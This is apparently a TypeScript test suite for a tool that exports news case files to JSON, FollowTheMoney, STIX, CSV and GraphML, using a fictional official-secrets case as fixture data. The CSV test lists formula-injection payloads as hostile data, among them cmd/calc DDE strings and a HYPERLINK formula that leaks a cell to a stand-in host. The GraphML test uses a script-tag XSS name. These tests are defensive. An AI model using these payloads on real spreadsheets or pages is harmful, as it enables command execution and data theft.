import { test } from "node:test";
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { Ajv } from "ajv";
import addFormatsModule from "ajv-formats";
import { XMLParser, XMLValidator } from "fast-xml-parser";
import { buildCase } from "../../src/casefile/index.js";
import { projectPath } from "../../src/core/paths.js";
import { exportCase, toCaseJson, toGraphml, toStix } from "../../src/export/index.js";
import { csvCombined, csvField, csvTables, csvText } from "../../src/export/csv.js";
import { toFtm } from "../../src/export/ftm.js";
import { article } from "../casefile/fixtures.js";

const addFormats = addFormatsModule as unknown as (ajv: Ajv) => Ajv;

const first = article(
  "gazette-12",
  "2024-03-04",
  "Lena Ostrova, 41, a former analyst at the Ministry of Defence, was charged on 1 March 2024 with " +
    "breaching the Official Secrets Act. She appeared at Westminster Magistrates' Court on Saturday.\n\n" +
    '"Lena Ostrova has served this country with distinction," said her lawyer, Tom Reid. ' +
    "Germany and Paris were named in the indictment.",
  {
    entities: [
      {
        id: "e1",
        type: "person",
        name: "Lena Ostrova",
        mentions: ["Lena Ostrova"],
        age: 41,
        roles: ["former analyst at the Ministry of Defence"],
      },
      { id: "e2", type: "organization", name: "Ministry of Defence", mentions: ["Ministry of Defence"] },
      { id: "e3", type: "person", name: "Tom Reid", mentions: ["Tom Reid"], roles: ["her lawyer"] },
      {
        id: "e4",
        type: "organization",
        name: "Westminster Magistrates' Court",
        mentions: ["Westminster Magistrates' Court"],
      },
      { id: "e5", type: "location", name: "Germany", mentions: ["Germany"] },
      { id: "e6", type: "location", name: "Paris", mentions: ["Paris"] },
    ],
    quotes: [{ text: "Lena Ostrova has served this country with distinction,", speaker: "e3" }],
    events: [
      {
        type: "charge",
        date: "2024-03-01",
        participants: ["e1"],
        evidence: "was charged on 1 March 2024",
        dateText: "on 1 March 2024",
      },
      {
        type: "court_hearing",
        date: "2024-03-02",
        participants: ["e1"],
        evidence: "She appeared at Westminster Magistrates' Court on Saturday",
      },
    ],
  },
  "The Gazette",
);
const second = article(
  "wire-3",
  "2024-03-05",
  'Ostrova, 40, was charged on 2 March 2024. The MoD said it "does not comment on individual cases, <ever> & always".',
  {
    entities: [
      { id: "e1", type: "person", name: "Ostrova", mentions: ["Ostrova"], age: 40 },
      { id: "e2", type: "organization", name: "MoD", mentions: ["MoD"] },
    ],
    quotes: [{ text: "does not comment on individual cases, <ever> & always", speaker: "e2", kind: "mixed" }],
    events: [
      {
        type: "charge",
        date: "2024-03-02",
        participants: ["e1"],
        evidence: "was charged on 2 March 2024",
        dateText: "on 2 March 2024",
      },
    ],
  },
  "Wire, Inc.",
);
const theCase = buildCase([first, second], []);

test("the JSON export has exactly the contract's shape, with document ids as sources", () => {
  const json = JSON.parse(exportCase(theCase, "json")[0].content);
  for (const key of ["entities", "timeline", "quotes", "contradictions"]) assert.ok(Array.isArray(json[key]), key);
  const ostrova = json.entities.find((e: { name: string }) => e.name === "Lena Ostrova");
  assert.equal(ostrova.type, "person");
  assert.deepEqual(ostrova.aliases, ["Ostrova"]);
  assert.deepEqual(ostrova.roles, ["former analyst at the Ministry of Defence"]);
  assert.deepEqual(ostrova.sources, ["gazette-12", "wire-3"]);
  const charge = json.timeline.find((t: { type: string }) => t.type === "charge");
  assert.deepEqual(charge.participants, ["Lena Ostrova"]);
  assert.deepEqual(charge.sources.sort(), ["gazette-12", "wire-3"]);
  assert.match(charge.date, /^2024-03-0[12]$/);
  assert.deepEqual(json.quotes[0], {
    ...json.quotes[0],
    text: "Lena Ostrova has served this country with distinction,",
    speaker: "Tom Reid",
    source: "gazette-12",
  });
  const mod = json.quotes.find((q: { source: string }) => q.source === "wire-3");
  assert.equal(mod.speaker, "Ministry of Defence");
  const fields = json.contradictions.map((c: { field: string }) => c.field).sort();
  assert.deepEqual(fields, ["age", "date"]);
  const age = json.contradictions.find((c: { field: string }) => c.field === "age");
  assert.equal(age.subject, "Lena Ostrova");
  assert.deepEqual(
    age.values.map((v: { value: string; source: string }) => [v.value, v.source]),
    [
      ["40", "wire-3"],
      ["41", "gazette-12"],
    ],
  );
  assert.deepEqual(toCaseJson(theCase), json);
  const validate = new Ajv({ allErrors: true, strict: false }).compile(schema("case-export.schema.json"));
  assert.ok(validate(json), JSON.stringify(validate.errors));
  assert.equal(
    validate({ ...(json as object), quotes: [{ text: "x", source: "a" }] }),
    false,
    "a quote needs its speaker field",
  );
});

function schema(name: string): object {
  return JSON.parse(readFileSync(projectPath("schemas", name), "utf8"));
}

test("FollowTheMoney entities validate against the FtM schema file and reference only entities present", () => {
  const ajv = new Ajv({ allErrors: true, strict: false });
  const validate = ajv.compile(schema("ftm-entity.schema.json"));
  const entities = toFtm(theCase);
  const ids = new Set(entities.map((e) => e.id));
  assert.equal(ids.size, entities.length, "ids are unique");
  for (const e of entities) assert.ok(validate(e), `${e.schema} ${JSON.stringify(validate.errors)}`);
  const refProps = ["proof", "document", "entity", "member", "organization", "subject", "object", "involved"];
  for (const e of entities)
    for (const p of refProps) for (const v of e.properties[p] ?? []) assert.ok(ids.has(v), `${e.schema}.${p} → ${v}`);
  const schemata = new Set(entities.map((e) => e.schema));
  for (const s of ["Person", "Organization", "Address", "Article", "Documentation", "Membership", "Event", "Note"])
    assert.ok(schemata.has(s), s);
  const person = entities.find((e) => e.schema === "Person" && e.properties.name[0] === "Lena Ostrova")!;
  assert.deepEqual(person.properties.position, ["former analyst at the Ministry of Defence"]);
  // The schema file rejects what FtM would reject.
  assert.equal(validate({ id: "x", schema: "Person", properties: { name: ["A"], shoeSize: ["44"] } }), false);
  assert.equal(validate({ id: "x", schema: "Membership", properties: { member: ["a"] } }), false);
  // Line-delimited output: one entity per line.
  const lines = exportCase(theCase, "ftm")[0].content.trimEnd().split("\n");
  assert.equal(lines.length, entities.length);
  assert.deepEqual(JSON.parse(lines[0]), entities[0]);
});

test("the STIX 2.1 bundle validates, its references resolve and its ids are deterministic", () => {
  const ajv = new Ajv({ allErrors: true, strict: false });
  addFormats(ajv);
  const validate = ajv.compile(schema("stix-2.1-bundle.schema.json"));
  const bundle = toStix(theCase, { timestamp: "2024-03-06T10:00:00Z" });
  assert.ok(validate(bundle), JSON.stringify(validate.errors?.slice(0, 3)));
  const ids = new Set(bundle.objects.map((o) => o.id));
  assert.equal(ids.size, bundle.objects.length, "ids are unique");
  for (const o of bundle.objects) {
    const refs = [o.created_by_ref, o.source_ref, o.target_ref, ...((o.object_refs as string[]) ?? [])].filter(Boolean);
    for (const r of refs) assert.ok(ids.has(r as string), `${o.type} → ${r}`);
  }
  const byType = (t: string) => bundle.objects.filter((o) => o.type === t);
  assert.equal(byType("report").length, 2);
  const ostrova = byType("identity").find((o) => o.name === "Lena Ostrova")!;
  assert.equal(ostrova.identity_class, "individual");
  assert.equal(byType("identity").find((o) => o.name === "Ministry of Defence")!.identity_class, "organization");
  assert.equal(byType("location").find((o) => o.name === "Germany")!.country, "DE");
  assert.ok(!byType("location").some((o) => o.name === "Paris"), "a town has no country or region to give");
  assert.match(String(byType("report").find((o) => o.name === "gazette-12")!.description), /Places named: Paris/);
  const quote = byType("note").find((o) => o.content === "Lena Ostrova has served this country with distinction,")!;
  assert.ok((quote.object_refs as string[]).includes(ostrova.id));
  assert.ok(
    byType("relationship").some((o) => o.relationship_type === "affiliated-with" && o.source_ref === ostrova.id),
  );
  assert.deepEqual(toStix(theCase, { timestamp: "2024-03-06T10:00:00Z" }), bundle);
  assert.equal(validate({ ...bundle, objects: [{ ...bundle.objects[0], spec_version: "2.0" }] }), false);
});

/** A strict RFC 4180 reader, to check the writer round-trips. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch !== '"') field += ch;
      else if (text[i + 1] === '"') {
        field += '"';
        i++;
      } else quoted = false;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") {
      row.push(field);
      field = "";
    } else if (ch === "\r" && text[i + 1] === "\n") {
      row.push(field);
      rows.push(row);
      row = [];
      field = "";
      i++;
    } else field += ch;
  }
  assert.equal(row.length + field.length, 0, "ends with CRLF");
  return rows;
}

test("CSV cells that a spreadsheet would run as a formula reach it as text", () => {
  const payloads = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?leak="&A1, "click")',
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uFF1D1+1",
  ];
  for (const p of payloads) {
    const cell = csvField(p);
    assert.ok(cell.startsWith(`"'`), `${JSON.stringify(p)} is written as ${JSON.stringify(cell)}`);
    // Read back, it is the text with one visible quote mark in front: nothing else is lost.
    assert.deepEqual(parseCsv(`${cell}\r\n`), [[`'${p}`]]);
  }
  // Ordinary text and numbers are left as they are.
  assert.equal(csvField("A quote - with a dash inside"), "A quote - with a dash inside");
  assert.equal(csvField(-3), "-3");
  assert.equal(csvField("O'Brien said"), "O'Brien said");
  // Through a whole export: a hostile quote and speaker name never open a cell with a formula.
  const hostile = JSON.parse(JSON.stringify(theCase)) as typeof theCase;
  hostile.quotes[0].text = payloads[0];
  hostile.entities[0].name = payloads[1];
  for (const table of [
    csvText(csvTables(hostile).quotes),
    csvText(csvTables(hostile).entities),
    csvText(csvCombined(hostile)),
  ]) {
    const cells = parseCsv(table).flat();
    assert.ok(cells.includes(`'${payloads[0]}`) || cells.includes(`'${payloads[1]}`));
    for (const cell of cells) assert.doesNotMatch(cell, /^[\s]*[=+@\t\r]/, `cell ${JSON.stringify(cell)}`);
  }
});

test("CSV tables follow RFC 4180 and round-trip hostile text", () => {
  assert.equal(csvField('say "hi", then\nleave'), '"say ""hi"", then\nleave"');
  assert.equal(csvField("plain"), "plain");
  const tables = csvTables(theCase);
  const quotes = parseCsv(csvText(tables.quotes));
  assert.deepEqual(quotes[0], tables.quotes.columns);
  assert.ok(quotes.some((r) => r.includes("does not comment on individual cases, <ever> & always")));
  const combined = parseCsv(csvText(csvCombined(theCase)));
  assert.equal(combined[0][0], "table");
  const counts = new Map<string, number>();
  for (const r of combined.slice(1)) counts.set(r[0], (counts.get(r[0]) ?? 0) + 1);
  assert.equal(counts.get("entities"), theCase.entities.length);
  assert.equal(counts.get("quotes"), theCase.quotes.length);
  assert.equal(counts.get("timeline"), theCase.timeline.length);
  assert.ok(combined.every((r) => r.length === combined[0].length));
  const split = exportCase(theCase, "csv", { split: true });
  assert.deepEqual(
    split.map((f) => f.name),
    ["entities.csv", "quotes.csv", "timeline.csv", "contradictions.csv"],
  );
  const contradictions = parseCsv(split[3].content);
  assert.ok(contradictions.some((r) => r[2] === "age" && r[3] === "41" && r[4] === "gazette-12"));
});

test("GraphML is well-formed XML with every node and edge, even with hostile names", () => {
  const hostile = article("evil", null, 'Jo <script>alert("x")</script> & Co\u0001 met Lena Ostrova.', {
    entities: [
      { id: "e1", type: "organization", name: 'Jo <script>alert("x")</script> & Co\u0001', mentions: ["Jo <script>"] },
      { id: "e2", type: "person", name: "Lena Ostrova", mentions: ["Lena Ostrova"] },
    ],
    events: [{ type: "other", date: null, participants: ["e1", "e2"], evidence: "met Lena Ostrova" }],
  });
  const c = buildCase([first, second, hostile], []);
  const xml = toGraphml(c);
  assert.equal(XMLValidator.validate(xml), true);
  const doc = new XMLParser({ ignoreAttributes: false, isArray: (n) => n === "node" || n === "edge" }).parse(xml);
  assert.equal(doc.graphml.graph.node.length, c.graph.nodes.length);
  assert.equal(doc.graphml.graph.edge.length, c.graph.edges.length);
  assert.ok(xml.includes("Jo &lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; Co<"));
  assert.ok(!xml.includes("\u0001"));
});
